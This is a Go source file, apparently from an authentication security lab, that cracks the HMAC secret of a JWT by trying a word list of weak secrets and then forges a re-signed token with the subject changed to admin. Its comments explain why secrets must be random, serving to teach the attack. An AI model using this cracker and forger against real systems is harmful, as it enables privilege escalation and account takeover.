package attack

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"errors"
	"fmt"
	"hash"
	"strings"

	"github.com/authlab/authlab/app/jot"
)

// Errors of Crack.
var (
	ErrNotHMAC  = errors.New("attack: only an HS256, HS384 or HS512 token can be cracked")
	ErrNotFound = errors.New("attack: no word of the list signs this token")
)

// progressEvery is how many guesses pass between two progress reports
// and two looks at the context.
const progressEvery = 512

// Words returns the cracker's word list: each non-empty line of extra,
// then the well-known demo secrets, without repeats.
func Words(extra string) []string {
	seen := map[string]bool{}
	var out []string
	for _, w := range append(strings.Split(extra, "\n"), jot.KnownWeakSecrets()...) {
		w = strings.TrimRight(w, "\r")
		if w != "" && !seen[w] {
			seen[w] = true
			out = append(out, w)
		}
	}
	return out
}

// Crack tries each word as the HMAC secret of token (RFC 7518 §3.2) and
// returns the one that makes its signature. This is why a secret must be
// random and at least as long as the hash (RFC 8725 §3.5): the words are
// tried offline, as fast as the machine goes. progress, when not nil, is
// called with the number of words tried every few hundred guesses; a
// cancelled ctx stops the search with ctx's error.
func Crack(ctx context.Context, token string, words []string, progress func(tried int)) (string, error) {
	v, err := decode(token)
	if err != nil {
		return "", err
	}
	var h func() hash.Hash
	switch v.header["alg"] {
	case "HS256":
		h = sha256.New
	case "HS384":
		h = sha512.New384
	case "HS512":
		h = sha512.New
	default:
		return "", fmt.Errorf("%w: alg is %v", ErrNotHMAC, v.header["alg"])
	}
	sig, err := decodeSegment(v.parts[2])
	if err != nil {
		return "", err
	}
	input := []byte(v.parts[0] + "." + v.parts[1])
	for i, w := range words {
		if i%progressEvery == 0 && i > 0 {
			if err := ctx.Err(); err != nil {
				return "", err
			}
			if progress != nil {
				progress(i)
			}
		}
		m := hmac.New(h, []byte(w))
		m.Write(input)
		if hmac.Equal(m.Sum(nil), sig) {
			if progress != nil {
				progress(i + 1)
			}
			return w, nil
		}
	}
	if progress != nil {
		progress(len(words))
	}
	return "", fmt.Errorf("%w (%d words tried)", ErrNotFound, len(words))
}

// Forge re-signs a cracked token with its secret, sub changed to admin.
func Forge(token, secret string) (Attack, error) {
	v, err := decode(token)
	if err != nil {
		return Attack{}, err
	}
	if v.header["alg"] != "HS256" {
		return Attack{}, fmt.Errorf("%w: alg is %v", ErrNotHMAC, v.header["alg"])
	}
	tok, err := SignHS256(v.header, v.escalated(), []byte(secret))
	return Attack{Name: "weak-secret", Label: "cracked secret", Token: tok,
		How: fmt.Sprintf("The secret %q found by trying a word list, and the token signed again with sub changed to admin.", secret)}, err
}
